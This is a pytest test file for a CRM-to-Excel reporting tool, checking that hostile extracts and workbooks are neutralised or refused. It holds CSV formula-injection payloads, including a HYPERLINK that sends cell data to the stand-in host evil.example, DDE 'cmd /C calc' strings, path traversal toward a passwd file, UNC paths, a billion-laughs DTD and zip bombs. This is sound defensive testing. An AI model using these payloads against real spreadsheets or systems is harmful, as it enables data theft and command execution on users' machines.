"""Extracts and workbooks are untrusted input: nothing in them runs, reaches outside, or exhausts memory.

* CSV formula injection: every text field that reaches an output CSV starts like a formula, and no
  output cell (or header) of any table may then start like one.
* Files named on Config: only the workbook's folder, unless allowed from outside the workbook; never UNC.
* Errors never quote file contents beyond header names.
* Resource bombs and encrypted or damaged workbooks are one-line refusals (see also test_fuzz_workbook.py).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import pandas as pd
import pytest
from conftest import one_error_line

from crm_xl import contract
from crm_xl.cli import main
from crm_xl.config import DEFAULT_SEGMENT_MAP
from crm_xl.io.csv import QUOTE, read_csv, write_csv
from crm_xl.workbook import layout
from crm_xl.workbook.book import load_raw, new_workbook, set_settings
from crm_xl.workbook.package import WorkbookPackageError, _read_old_sheet, find_tables
from crm_xl.workbook.reader import read_settings
from crm_xl.workbook.refresh import refresh_workbook
from crm_xl.workbook.untrusted import ALLOW_ENV, MAX_CELLS, MAX_PARTS, MAX_RATIO, parse_xml

GOLDEN = Path(__file__).parent / "fixtures" / "golden"
RAW_NAMES = ("transactions", "customers", "products")
NOW = dt.datetime(2025, 1, 2, 3, 4, 5)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
ONLY_NUMBERS = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?(, [+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?)*$")


def golden_raw() -> dict[str, pd.DataFrame]:
    return {name: read_csv(GOLDEN / f"{name}.csv", name) for name in RAW_NAMES}


def make_book(path: Path, raw: dict[str, pd.DataFrame] | None = None, **settings: object) -> Path:
    new_workbook(path)
    load_raw(path, golden_raw() if raw is None else raw)
    set_settings(path, {"report_month": "2024-12", "history_months": 24, **settings})
    return path


def csv_cells(path: Path) -> list[list[str]]:
    """Every cell of a written CSV (header first), as a spreadsheet's CSV reader sees the text."""
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def formula_like(cell: str) -> bool:
    return cell.startswith(FORMULA_START) and not ONLY_NUMBERS.match(cell)


# --- CSV formula injection -------------------------------------------------------------------------------

#: One attack per text field that reaches an output (ids included: they are text).
ATTACKS = {
    ("customers", "customer_name"): '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    ("customers", "customer_group"): "+cmd|' /C calc'!A0",
    ("customers", "city"): "@SUM(1+1)*cmd|' /C calc'!A0",
    ("customers", "email"): "-2+3+cmd|' /C calc'!A0",
    ("customers", "mobile_number"): "=1+1",
    ("customers", "=EXTRA"): "\t=cmd|' /C calc'!A0",
    ("products", "product_name"): "=WEBSERVICE(\"http://evil.example\")",
    ("products", "brand"): "\r=1+1",
    ("transactions", "store_id"): "@store",
}
CUSTOMER_PREFIX, PRODUCT_PREFIX, INVOICE_PREFIX = "@", "-", "+"     # ids that start like a formula
CORE, ENTRY = "=consumable", "@device"


def hostile_inputs() -> dict[str, pd.DataFrame]:
    """The golden company with every text value an attack: ids, names, categories, an extra column."""
    raw = {name: frame.astype(object) for name, frame in golden_raw().items()}
    customers, products, transactions = raw["customers"], raw["products"], raw["transactions"]
    customers["=EXTRA"] = "x"
    for (table, column), attack in ATTACKS.items():
        raw[table][column] = attack
    customers["customer_id"] = CUSTOMER_PREFIX + customers["customer_id"].astype(str)
    transactions["customer_id"] = CUSTOMER_PREFIX + transactions["customer_id"].astype(str)
    products["product_id"] = PRODUCT_PREFIX + products["product_id"].astype(str)
    transactions["product_id"] = PRODUCT_PREFIX + transactions["product_id"].astype(str)
    transactions["invoice_id"] = INVOICE_PREFIX + transactions["invoice_id"].astype(str)
    products["category"] = products["category"].replace({"consumable": CORE, "device": ENTRY})
    transactions.loc[transactions.index[:2], "invoice_date"] = "=NOW()"      # rejected: bad_date
    transactions.insert(0, "=NOTE", "x")     # a rejected line's values start with its first column
    return {name: frame.rename(columns={"invoice_id": "=Invoice"}) if name == "transactions" else frame
            for name, frame in raw.items()}


def hostile_settings() -> list[str]:
    segments = "; ".join(f"={name}: {' '.join(cells)}" for name, cells in DEFAULT_SEGMENT_MAP)
    return ["report_month=2024-12", "history_months=24", f"core_categories={CORE}", f"entry_categories={ENTRY}",
            "map.transactions.invoice_id==Invoice", f"segment_map={segments}"]


#: Tables where an attack must show (neutralised): what of the input reaches each one.
REACHES = {
    "customer_snapshot": ATTACKS[("customers", "customer_name")],
    "customer_history": CUSTOMER_PREFIX + "G01",
    "monthly_summary": "=" + DEFAULT_SEGMENT_MAP[0][0],
    "segment_map": "=" + DEFAULT_SEGMENT_MAP[0][0],
    "data_quality": "=NOW()",
    "rejected_lines": "=NOTE=x | invoice_id=+INV",
    "run_info": CORE,
}


def test_no_output_csv_cell_starts_like_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """crm-xl run on inputs whose every text field is an attack: each of the contract's tables is written,
    and no cell or header of any of them would be a formula in a spreadsheet; the attacks that reach
    a table show there with the leading quote, the rest of the text as it was."""
    data = tmp_path / "data"
    data.mkdir()
    for name, frame in hostile_inputs().items():
        frame.to_csv(data / f"{name}.csv", index=False, quoting=csv.QUOTE_ALL)
    out = tmp_path / "out"
    sets = [arg for setting in hostile_settings() for arg in ("--set", setting)]
    assert main(["run", "--data", str(data), "--out", str(out), *sets]) == 0, capsys.readouterr().err
    assert sorted(p.stem for p in out.glob("*.csv")) == sorted(contract.TABLE_NAMES)
    for name in contract.TABLE_NAMES:
        cells = csv_cells(out / f"{name}.csv")
        risky = [cell for row in cells for cell in row if formula_like(cell)]
        assert not risky, f"{name}.csv: {risky[:5]}"
        if name in REACHES:
            shown = [cell for row in cells for cell in row if cell.startswith(QUOTE + REACHES[name])]
            assert shown, f"{name}.csv: the attack {REACHES[name]!r} should show, quoted"
    snapshot = csv_cells(out / "customer_snapshot.csv")
    header = snapshot[0]
    assert QUOTE + "=EXTRA" in header                         # an extra master column's header
    row = dict(zip(header, snapshot[1], strict=True))
    for (table, column), attack in ATTACKS.items():
        if table == "customers" and column != "=EXTRA":
            assert row[column] == QUOTE + attack.strip(), column     # exactly the text, one quote before it


def test_the_rejected_lines_beside_a_workbook_are_inert(tmp_path: Path) -> None:
    raw = golden_raw()
    raw["transactions"] = raw["transactions"].astype(object)
    raw["transactions"].loc[raw["transactions"].index[0], "invoice_date"] = "=cmd|' /C calc'!A0"
    book = make_book(tmp_path / "book.xlsm", raw, **{"map.transactions.invoice_id": ""})
    refresh_workbook(book, now=NOW)
    cells = csv_cells(tmp_path / "book_rejected_lines.csv")
    assert not [c for row in cells for c in row if formula_like(c)]
    assert any("invoice_date==cmd|' /C calc'!A0" in c for row in cells for c in row)


def test_numbers_are_never_quoted(tmp_path: Path) -> None:
    """Negative numbers in number columns, and text that is only numbers, stay as they are."""
    frame = pd.DataFrame({"amount": [-5.5, 3.0], "count": [-2, 1], "text": ["-5", "-7.0, -2.0"],
                          "formula": ["-5+cmd|' /C calc'!A0", "+"]})
    write_csv(frame, tmp_path / "t.csv")
    assert csv_cells(tmp_path / "t.csv") == [["amount", "count", "text", "formula"],
                                             ["-5.5", "-2", "-5", "'-5+cmd|' /C calc'!A0"],
                                             ["3", "1", "-7.0, -2.0", "'+"]]


# --- files named on Config ------------------------------------------------------------------------------


@pytest.fixture
def book(tmp_path: Path) -> Path:
    """A workbook in its own folder (``tmp_path/books``), the golden company in Raw."""
    folder = tmp_path / "books"
    folder.mkdir()
    return make_book(folder / "book.xlsm")


def config_cell(book: Path, key: str) -> str:
    return read_settings(book)[2][key]


def outside_file(tmp_path: Path, text: str = "root:x:0:0:root:/root:/bin/bash\nsecond line\n") -> Path:
    secret = tmp_path / "elsewhere" / "passwd"
    secret.parent.mkdir(exist_ok=True)
    secret.write_text(text)
    return secret


def refresh_error(book: Path, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    before = book.read_bytes()
    assert main(["refresh", "--quiet", *args, str(book)]) == 2
    assert book.read_bytes() == before
    return one_error_line(capsys)


@pytest.mark.parametrize("kind", ["relative", "absolute", "home", "symlink"])
def test_a_file_outside_the_workbooks_folder_is_refused(book: Path, tmp_path: Path, kind: str,
                                                        capsys: pytest.CaptureFixture[str],
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    secret = outside_file(tmp_path)
    named = {"relative": "../elsewhere/passwd", "absolute": str(secret), "home": "~/passwd",
             "symlink": "link.csv"}[kind]
    monkeypatch.setenv("HOME", str(secret.parent))
    monkeypatch.setenv("USERPROFILE", str(secret.parent))
    if kind == "symlink":
        (book.parent / "link.csv").symlink_to(secret)
    set_settings(book, {"transactions_file": named})
    err = refresh_error(book, capsys)
    assert config_cell(book, "transactions_file") in err and "outside the workbook's folder" in err, err
    assert "--allow-files-from" in err and "root:x" not in err and "bash" not in err




def copy_golden(folder: Path, name: str = "transactions") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    return Path(shutil.copy(GOLDEN / f"{name}.csv", folder / f"{name}.csv"))


def test_a_file_in_a_subfolder_of_the_workbook_is_read(book: Path, capsys: pytest.CaptureFixture[str]) -> None:
    copy_golden(book.parent / "extracts")
    set_settings(book, {"transactions_file": "extracts/../extracts/transactions.csv"})
    assert main(["refresh", "--quiet", str(book)]) == 0, capsys.readouterr().err


def test_allow_files_from_reads_another_folder(book: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                               monkeypatch: pytest.MonkeyPatch) -> None:
    source = copy_golden(tmp_path / "extracts")
    set_settings(book, {"transactions_file": str(source)})
    refresh_error(book, capsys)
    assert main(["refresh", "--quiet", "--allow-files-from", str(source.parent), str(book)]) == 0, \
        capsys.readouterr().err
    monkeypatch.setenv(ALLOW_ENV, os.pathsep.join(["/nowhere", str(source.parent)]))    # the Refresh button's way
    assert refresh_workbook(book, now=NOW).tables["customer_snapshot"].shape[0] == 19


@pytest.mark.parametrize("named", [r"\\server\share\tx.csv", "//server/share/tx.csv", r"\\?\C:\data\tx.csv",
                                   r"/\server\share\tx.csv"])
def test_network_paths_are_refused_even_when_outside_files_are_allowed(book: Path, named: str,
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    set_settings(book, {"transactions_file": named})
    err = refresh_error(book, capsys, "--allow-files-from", "/")
    assert "network path (UNC)" in err and config_cell(book, "transactions_file") in err, err


def test_a_network_share_is_read_when_it_is_allowed_itself(book: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Past the check, the (here nonexistent) file is looked for: the share was named by the user."""
    set_settings(book, {"transactions_file": r"\\server\share\tx.csv"})
    err = refresh_error(book, capsys, "--allow-files-from", "//SERVER/share")
    assert "does not exist" in err and "network path" not in err, err
    err = refresh_error(book, capsys, "--allow-files-from", r"\\server\share\..\other")
    assert "network path (UNC)" in err, err


def test_the_workbooks_config_cannot_allow_outside_files(book: Path, tmp_path: Path,
                                                         capsys: pytest.CaptureFixture[str]) -> None:
    """The allowance is the user's (command line, environment), never the workbook's: no setting grants it."""
    assert not [key for key in layout.WORKBOOK_SETTINGS if "allow" in key]
    set_settings(book, {"transactions_file": str(outside_file(tmp_path))})
    assert "outside the workbook's folder" in refresh_error(book, capsys)


# --- errors never quote file contents ---------------------------------------------------------------------


SECRET_ROWS = ["root:x:0:0:root:/root:/bin/bash", "-----BEGIN OPENSSH PRIVATE KEY-----", "b3BlbnNzaC1rZXktdjE"]


def test_an_unparsable_file_is_named_by_line_never_quoted(book: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lines = (GOLDEN / "transactions.csv").read_text().splitlines()
    (book.parent / "tx.csv").write_text("\n".join([*lines[:3], *SECRET_ROWS, *lines[3:]]) + "\n")
    set_settings(book, {"transactions_file": "tx.csv"})
    err = refresh_error(book, capsys)
    assert "line 4 has 1 field where the header has 7" in err, err
    assert not [row for row in SECRET_ROWS if row[:10] in err], err
    out = book.parent / "out"
    assert main(["run", "--transactions", str(book.parent / "tx.csv"), "--data", str(GOLDEN), "--out", str(out)]) == 2
    assert "line 4" in (err := one_error_line(capsys)) and not [r for r in SECRET_ROWS if r[:10] in err], err


def test_a_text_column_read_as_numbers_quotes_no_text(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "data"
    for name in RAW_NAMES:
        copy_golden(data, name)
    frame = pd.read_csv(data / "transactions.csv", dtype=str)
    frame["revenue"] = [SECRET_ROWS[i % 3] for i in range(len(frame))]
    frame.to_csv(data / "transactions.csv", index=False)
    assert main(["run", "--data", str(data), "--out", str(tmp_path / "out")]) == 2
    err = one_error_line(capsys, "transactions.revenue", "are not numbers")
    assert not [row for row in SECRET_ROWS if row[:10] in err], err
    frame["revenue"] = ["12,5"] * len(frame)       # a decimal comma is still shown: it helps, and cannot leak
    frame.to_csv(data / "transactions.csv", index=False)
    assert main(["run", "--data", str(data), "--out", str(tmp_path / "out"), "--set", "csv_decimal=."]) == 2
    one_error_line(capsys, "(e.g. '12,5')")


@pytest.mark.parametrize("second", ["quantity", " Quantity "])
def test_a_duplicate_header_is_one_line(tmp_path: Path, second: str, capsys: pytest.CaptureFixture[str]) -> None:
    data = tmp_path / "data"
    for name in RAW_NAMES:
        copy_golden(data, name)
    text = (data / "transactions.csv").read_text().splitlines()
    text[0] = text[0].replace("store_id", second)
    (data / "transactions.csv").write_text("\n".join(text) + "\n")
    assert main(["run", "--data", str(data), "--out", str(tmp_path / "out")]) == 2
    one_error_line(capsys, "transactions.csv has two columns named 'quantity' (columns 5 and 7")


@pytest.mark.parametrize(("args", "needle"), [
    (["--customers", "0"], "--customers"), (["--customers", "-3"], "--customers"), (["--months", "0"], "--months"),
    (["--months", "-1"], "--months"), (["--transactions", "-1"], "--transactions"), (["--seed", "-1"], "--seed"),
    (["--end-month", "2025-13"], "2025-13"), (["--end-month", "December"], "--end-month")])
def test_bad_sample_arguments_are_one_line(tmp_path: Path, args: list[str], needle: str,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["sample", "--out", str(tmp_path / "s"), *args]) == 2
    one_error_line(capsys, needle)
    assert not (tmp_path / "s").exists()


# --- resource bombs -------------------------------------------------------------------------------------


def edit_part(book: Path, part: str, edit) -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(book) as src, zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as out:
        for info in src.infolist():
            body = src.read(info)
            out.writestr(info, edit(body) if info.filename == part else body)
    book.write_bytes(data.getvalue())


def sheet_of(book: Path, table: str) -> str:
    return find_tables(book)[table.lower()].sheet_part


FAR = b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'


@pytest.mark.parametrize(("label", "cells"), [
    ("far cell", FAR),
    ("attributes in another order", b'<row r="1048576"><c s="0" t="n" r=\'XFD1048576\'><v>1</v></c></row></sheetData>'),
    ("cells without a reference", b'<row r="1048576">' + b"<c><v>1</v></c>" * 200 + b"</row></sheetData>"),
    ("a prefixed cell", b'<row r="1048576"><x:c xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/'
                        b'main" r="ZZ1048576"><x:v>1</x:v></x:c></row></sheetData>')])
def test_a_sheet_whose_cells_would_take_too_much_memory_is_refused(book: Path, label: str, cells: bytes,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    """The cells calamine would allocate (A1 to the farthest value) are counted before it reads: one
    far value would make it allocate the grid and abort the process."""
    edit_part(book, sheet_of(book, layout.CONFIG_TABLE.name), lambda xml: xml.replace(b"</sheetData>", cells, 1))
    err = refresh_error(book, capsys)
    assert "sheet 'Config'" in err and f"limit of {MAX_CELLS:,} cells" in err, (label, err)


def test_cells_outside_the_declared_dimension_are_measured_not_refused(book: Path) -> None:
    """A stale <dimension> is no reason to refuse: the real extent is measured, and it is small."""
    part = sheet_of(book, layout.RAW_TABLES["products"].name)
    edit_part(book, part, lambda xml: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1"/>', xml)
              .replace(b"</sheetData>", b'<row r="40"><c r="Z40" t="inlineStr"><is><t>note</t></is></c></row>'
                                        b"</sheetData>"))
    assert refresh_workbook(book, now=NOW).tables["customer_snapshot"].shape[0] == 19


def test_a_zip_bomb_part_is_refused_before_it_is_read(book: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edit_part(book, "xl/sharedStrings.xml" if "xl/sharedStrings.xml" in zipfile.ZipFile(book).namelist()
              else sheet_of(book, layout.LOG_TABLE.name), lambda xml: xml.replace(b"</", b" " * (8 << 20) + b"</", 1))
    err = refresh_error(book, capsys)
    assert f"the limit is {MAX_RATIO} times" in err and "zip bomb" in err, err


def test_a_package_of_too_many_parts_is_refused(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    book = tmp_path / "book.xlsm"
    with zipfile.ZipFile(book, "w") as zf:
        for i in range(MAX_PARTS + 1):
            zf.writestr(f"p/{i}", b"")
    err = refresh_error(book, capsys)
    assert f"{MAX_PARTS + 1:,} parts (the limit is {MAX_PARTS:,})" in err, err


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/styles.xml", "[Content_Types].xml"])
def test_a_dtd_in_any_part_is_refused(book: Path, part: str, capsys: pytest.CaptureFixture[str]) -> None:
    laughs = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    edit_part(book, part, lambda xml: xml.replace(b"?>", b"?>" + laughs, 1))
    assert "declares a DTD" in refresh_error(book, capsys)


def test_a_utf16_part_with_a_dtd_is_refused() -> None:
    with pytest.raises(WorkbookPackageError, match="DTD"):
        parse_xml('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'
                  .encode("utf-16"), "xl/x.xml")


@pytest.mark.parametrize("where", ["head", "rows", "tail", "inside a row"])
def test_the_old_sheet_reader_keeps_what_long_whitespace_surrounds(where: str) -> None:
    """The rewrite's reader of an existing sheet takes whitespace runs (4 MB, four of its chunks) in one
    pass; what it keeps (head, leading rows, styles, tail) is exactly what is there."""
    pad = b" " * (4 << 20)
    head = b'<worksheet><dimension ref="A1:B3"/>' + (pad if where == "head" else b"")
    rows = (b'<row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c></row>' + (pad if where == "rows" else b"")
            + b'<row r="2">' + (pad if where == "inside a row" else b"") + b'<c r="A2" s="4"><v>1</v></c></row>'
            + b'<row r="3"><c r="A3" s="5"><v>1</v></c></row>')
    tail = (pad if where == "tail" else b"") + b"</worksheet>"
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("s.xml", head + b"<sheetData>" + rows + b"</sheetData>" + tail)
    with zipfile.ZipFile(data) as zf:
        old = _read_old_sheet(zf, "s.xml", 2)
    assert (old.head, old.tail) == (head, tail)
    assert old.leading_rows.startswith(b'<row r="1">') and old.header_styles == {0: 4} and old.data_styles == {0: 5}


# --- encrypted, old and damaged workbooks ---------------------------------------------------------------


def test_an_encrypted_workbook_says_so_and_how_to_remove_the_password(book: Path,
                                                                      capsys: pytest.CaptureFixture[str]) -> None:
    """A real encrypted workbook (msoffcrypto-tool encrypts as Excel does: ECMA-376 agile encryption)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    encrypted = book.with_name("secret.xlsm")
    with book.open("rb") as plain, encrypted.open("wb") as out:
        OOXMLFile(plain).encrypt("Pa55word", out)
    for command in (["refresh", "--quiet"], ["load", "--products", str(GOLDEN / "products.csv")]):
        assert main([*command, str(encrypted)]) == 2
        one_error_line(capsys, "secret.xlsm is encrypted", "File > Info > Protect Workbook > Encrypt with Password")


@pytest.mark.slow
def test_an_xls_workbook_says_save_as_xlsm(book: Path, capsys: pytest.CaptureFixture[str]) -> None:
    if shutil.which("soffice") is None:
        pytest.skip("LibreOffice (soffice) is not installed")
    done = subprocess.run(["soffice", "--headless", "--convert-to", "xls", "--outdir", str(book.parent), str(book)],
                          capture_output=True, text=True, timeout=300)
    xls = book.with_suffix(".xls")
    assert xls.is_file(), done.stderr
    assert main(["refresh", "--quiet", str(xls)]) == 2
    one_error_line(capsys, "Excel 97-2003", "save it as")


def test_a_damaged_config_sheet_names_the_sheet(book: Path, capsys: pytest.CaptureFixture[str]) -> None:
    edit_part(book, sheet_of(book, layout.CONFIG_TABLE.name), lambda xml: xml[:len(xml) // 2])
    err = refresh_error(book, capsys)
    assert "is damaged" in err and "sheet 'Config'" in err, err


def test_a_part_flagged_as_patched_data_is_damaged(book: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Flag bit 5 (compressed patched data) on an XML part in the zip directory: zipfile refuses to open
    it with NotImplementedError, which must be one line, not a traceback (found by test_fuzz_workbook)."""
    with zipfile.ZipFile(book) as zf:
        info = next(i for i in zf.infolist() if i.filename.endswith(".xml"))
    data = bytearray(book.read_bytes())
    record = data.index(b"PK\x01\x02")                  # the first record of the zip directory
    while data[record + 46:record + 46 + int.from_bytes(data[record + 28:record + 30], "little")] != \
            info.filename.encode():
        record = data.index(b"PK\x01\x02", record + 4)
    flags = record + 8
    data[flags:flags + 2] = (int.from_bytes(data[flags:flags + 2], "little") | 0x20).to_bytes(2, "little")
    book.write_bytes(bytes(data))
    err = refresh_error(book, capsys)
    assert "is damaged" in err and info.filename in err, err


def test_unknown_exceptions_are_not_hidden(book: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Only what a damaged file raises becomes one line; a bug keeps its traceback."""
    import crm_xl.workbook.refresh as refresh

    def bug(*args: object, **kwargs: object) -> None:
        raise KeyError("a bug")

    monkeypatch.setattr(refresh, "compute_with_store", bug)
    with pytest.raises(KeyError):
        main(["refresh", "--quiet", str(book)])


def test_a_subprocess_refusing_a_far_cell_does_not_abort(book: Path) -> None:
    edit_part(book, sheet_of(book, layout.RAW_TABLES["customers"].name), lambda xml: xml.replace(b"</sheetData>", FAR))
    done = subprocess.run([sys.executable, "-m", "crm_xl.cli", "refresh", "--quiet", str(book)],
                          capture_output=True, text=True, timeout=300)
    assert done.returncode == 2 and len(done.stderr.splitlines()) == 1 and "XFD1048576" in done.stderr, done.stderr
